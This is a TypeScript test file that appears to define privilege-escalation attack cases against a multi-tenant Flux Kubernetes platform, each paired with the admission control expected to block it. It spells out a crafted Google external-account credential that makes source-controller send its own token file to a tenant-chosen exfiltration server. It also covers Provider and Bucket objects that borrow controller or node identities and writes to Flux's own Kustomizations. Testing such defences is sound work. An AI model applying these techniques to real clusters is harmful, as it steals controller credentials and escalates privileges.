import type { Attack, Place } from "../attack.js";
import { kustomization, own, reference, V, within } from "../objects.js";
import { change, create } from "../request.js";
import { cannot } from "./messages.js";

const category = "escalation";
const notification = "notification.toolkit.fluxcd.io/v1beta3";

const bucketSecret = /a Secret of a Bucket at gcp or azure can disclose the identity of the platform's controller/;
const providerSecret = /a Secret of a Provider of this type can disclose the identity of the platform's controller/;
const providerIdentity = /a Provider without its own account would use the credentials of the platform's controller/;
const reports = /this Flux controller may only change status, finalizers and annotations/;

/** What Google's library takes for credentials: it reads a file, and sends what is in it to an address. */
function externalAccount({ secretFile, exfiltrationServer }: Place): string {
  return JSON.stringify({
    type: "external_account",
    audience: "whoever",
    subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
    token_url: exfiltrationServer,
    credential_source: { file: secretFile },
  });
}

/** An object of the tenant's by which one of Flux's controllers would use, or give away, what is its own. */
function asCredentials(
  id: string,
  title: string,
  control: "fleet-flux-source" | "fleet-notifications",
  message: RegExp,
  [apiVersion, kind, spec]: readonly [string, string, Readonly<Record<string, unknown>>],
): Attack {
  return {
    id,
    title,
    category,
    by: "reconciler",
    stoppedBy: [{ control, message }],
    attempt: (place) => ({ kind: "request", request: create(own(place, apiVersion, kind, { spec })) }),
  };
}

const secretRef = { name: "credentials" };

/** The controllers' own identity: having it given away, and what it is worth. */
export const controllerAttacks: readonly Attack[] = [
  {
    id: "token-as-credentials",
    title: "has source-controller send a file of its own, such as its token, to an address of the tenant's",
    category,
    by: "push",
    stoppedBy: [{ control: "fleet-flux-source", message: bucketSecret }],
    attempt: (place) => ({
      kind: "sync",
      object: own(
        place,
        V.git,
        "Bucket",
        {
          spec: {
            interval: "1m",
            provider: "gcp",
            bucketName: "anything",
            endpoint: new URL(place.organisation).host,
            secretRef: { name: "token-as-credentials" },
          },
        },
        "token-as-credentials",
      ),
      beside: [
        own(place, "v1", "Secret", { stringData: { serviceaccount: externalAccount(place) } }, "token-as-credentials"),
      ],
      evidence: "secretFile",
    }),
  },
  asCredentials(
    "identity-of-the-node",
    "fetches a bucket at Azure with the identity of the node",
    "fleet-flux-source",
    bucketSecret,
    [
      V.git,
      "Bucket",
      { interval: "1m", provider: "azure", bucketName: "a", endpoint: "https://acme.blob.example.com", secretRef },
    ],
  ),
  asCredentials(
    "token-as-topic",
    "has notification-controller send a file of its own with a notification to Google",
    "fleet-notifications",
    providerSecret,
    [
      notification,
      "Provider",
      { type: "googlepubsub", channel: "a", address: "project", secretRef, serviceAccountName: "mine" },
    ],
  ),
  asCredentials(
    "token-as-event",
    "sends to an event hub with the controller's own identity, by a Secret without a token",
    "fleet-notifications",
    providerSecret,
    [
      notification,
      "Provider",
      { type: "azureeventhub", channel: "a", address: "hub", secretRef, serviceAccountName: "mine" },
    ],
  ),
  asCredentials(
    "token-as-password",
    "has the controller's token for Azure DevOps sent to another host, by a Secret without a token",
    "fleet-notifications",
    providerIdentity,
    [notification, "Provider", { type: "azuredevops", address: "https://devops.example.com/a/b/_git/c", secretRef }],
  ),
  {
    id: "sync-of-a-controller",
    title: "makes a Kustomization in Flux's namespace that is applied as the platform",
    category,
    by: "controller",
    stoppedBy: [
      { control: "controller-rights", message: cannot("create", "kustomizations") },
      { control: "fleet-controllers", message: reports },
    ],
    attempt: (place) => {
      const asPlatform = { serviceAccountName: "platform-reconciler", targetNamespace: "kube-system" };
      const { apiVersion, kind, ...sync } = kustomization(place, "sync-of-a-controller", asPlatform);
      return { kind: "request", request: create({ ...sync, ...within("flux-system", apiVersion, kind) }) };
    },
  },
  {
    id: "spec-of-the-platform",
    title: "changes what the platform's own Kustomization applies",
    category,
    by: "controller",
    stoppedBy: [{ control: "fleet-controllers", message: reports }],
    attempt: () => ({
      kind: "request",
      request: change(reference(V.kustomize, "Kustomization", "platform", "flux-system"), {
        spec: { path: "./somewhere/else" },
      }),
    }),
  },
];
